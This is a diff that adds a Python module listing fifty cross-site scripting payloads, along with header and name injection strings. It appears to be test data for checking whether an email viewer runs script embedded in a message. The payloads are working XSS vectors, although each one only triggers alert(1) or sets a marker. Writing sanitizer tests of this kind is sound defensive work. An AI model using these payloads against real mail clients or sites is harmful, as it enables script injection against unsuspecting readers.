@@ -1,0 +1,70 @@
+"""Fifty known ways to have a mail run script in whoever reads it. Each tries to call alert(1) or to mark the window."""
+
+from __future__ import annotations
+
+_DO = "window.top.pwned=1;alert(1)"
+
+PAYLOADS: tuple[str, ...] = (
+    f"<script>{_DO}</script>",
+    f"<script src=data:text/javascript,{_DO}></script>",
+    f"<ScRiPt>{_DO}</sCrIpT>",
+    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
+    f"<img src=x onerror=\"{_DO}\">",
+    f"<img src=x onerror={_DO}//",
+    f"<IMG \"\"\"><SCRIPT>{_DO}</SCRIPT>\">",
+    f"<img src='x' o\nnerror='{_DO}'>",
+    f"<img/src=x/onerror={_DO}>",
+    f"<svg onload=\"{_DO}\"></svg>",
+    f"<svg><script>{_DO}</script></svg>",
+    f"<svg><animate onbegin=\"{_DO}\" attributeName=x dur=1s></svg>",
+    f"<svg><a xlink:href=\"javascript:{_DO}\"><text x=20 y=20>click</text></a></svg>",
+    f"<svg><foreignObject><iframe srcdoc=\"<script>{_DO}</script>\"></iframe></foreignObject></svg>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={_DO}&gt;\">",
+    f"<math><a xlink:href=\"javascript:{_DO}\">click</a></math>",
+    f"<iframe src=\"javascript:{_DO}\"></iframe>",
+    f"<iframe srcdoc=\"&lt;script&gt;{_DO}&lt;/script&gt;\"></iframe>",
+    f"<object data=\"javascript:{_DO}\"></object>",
+    f"<object data=\"data:text/html,<script>{_DO}</script>\"></object>",
+    f"<embed src=\"javascript:{_DO}\">",
+    f"<embed src=\"data:text/html,<script>{_DO}</script>\">",
+    f"<a href=\"javascript:{_DO}\" id=click>click</a>",
+    f"<a href=\"JaVaScRiPt:{_DO}\" id=click>click</a>",
+    f"<a href=\"java&#x0A;script:{_DO}\" id=click>click</a>",
+    f"<a href=\" &#14; javascript:{_DO}\" id=click>click</a>",
+    f"<a href=\"vbscript:{_DO}\" id=click>click</a>",
+    f"<a href=\"data:text/html,<script>{_DO}</script>\" id=click>click</a>",
+    f"<form action=\"javascript:{_DO}\"><input type=submit id=click value=click></form>",
+    f"<form><button formaction=\"javascript:{_DO}\" id=click>click</button></form>",
+    f"<input autofocus onfocus=\"{_DO}\">",
+    f"<select autofocus onfocus=\"{_DO}\"></select>",
+    f"<textarea autofocus onfocus=\"{_DO}\"></textarea>",
+    f"<details open ontoggle=\"{_DO}\"><summary>x</summary></details>",
+    f"<body onload=\"{_DO}\"><p>x</p></body>",
+    f"<p onmouseover=\"{_DO}\" style=\"position:fixed;inset:0\">x</p>",
+    f"<video><source onerror=\"{_DO}\"></video>",
+    f"<audio src=x onerror=\"{_DO}\"></audio>",
+    f"<marquee onstart=\"{_DO}\">x</marquee>",
+    f"<meta http-equiv=refresh content=\"0;url=javascript:{_DO}\">",
+    f"<meta http-equiv=refresh content=\"0;url=data:text/html,<script>{_DO}</script>\">",
+    f"<base href=\"javascript:{_DO}//\"><a href=x id=click>click</a>",
+    f"<link rel=stylesheet href=\"javascript:{_DO}\"><link rel=import href=\"data:text/html,<script>{_DO}</script>\">",
+    f"<style>@import 'javascript:{_DO}'; body {{ background: url(javascript:{_DO}) }}</style>",
+    f"<div style=\"background:url(javascript:{_DO});width:expression({_DO})\">x</div>",
+    f"<noscript><p title=\"</noscript><img src=x onerror={_DO}>\">",
+    f"<template><img src=x onerror=\"{_DO}\"></template>",
+    f"<!--[if gte IE 4]><script>{_DO}</script><![endif]--><!--><img src=x onerror={_DO}>-->",
+    f"<p title=\"<blockquote onclick={_DO} onmouseover={_DO}>\">own words</p><blockquote title=\"</blockquote><img src=x "
+    f"onerror={_DO}>\">quoted</blockquote>",
+    f"<table background=\"javascript:{_DO}\"><tr><td background=\"javascript:{_DO}\">x</td></tr></table>",
+    f"&lt;script&gt;{_DO}&lt;/script&gt;<xmp><script>{_DO}</script></xmp><plaintext><script>{_DO}</script>",
+    f"<x onclick={_DO} tabindex=1 id=click>click</x><isindex type=image src=1 onerror={_DO}>",
+)
+
+# The same through everything else that a page shows of a mail.
+NAMES: tuple[str, ...] = (
+    f"<script>{_DO}</script>",
+    f"\"><img src=x onerror={_DO}>",
+    f"'-{_DO}-'",
+    "{{7*7}}${7*7}<%= 7*7 %>",
+    f"</title><svg onload={_DO}>",
+)
